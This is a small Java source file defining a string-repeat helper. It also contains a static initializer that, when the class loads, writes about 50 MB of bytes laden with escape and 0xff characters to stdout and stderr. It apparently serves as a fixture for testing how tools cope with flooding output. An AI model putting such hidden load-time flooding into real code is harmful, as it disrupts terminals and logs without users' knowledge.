package repeat;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;

final class Repeat {

  static {
    byte[] bytes = new byte[1 << 20];
    for (int i = 0; i < bytes.length; i++) {
      bytes[i] = (byte) (i % 5 == 0 ? 27 : i % 7 == 0 ? 0xff : i);
    }
    for (FileDescriptor raw : List.of(FileDescriptor.out, FileDescriptor.err)) {
      FileOutputStream out = new FileOutputStream(raw);
      try {
        for (int megabyte = 0; megabyte < 25; megabyte++) {
          out.write(bytes);
        }
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }
  }

  static String times(String text, int n) {
    return text.repeat(n);
  }
}
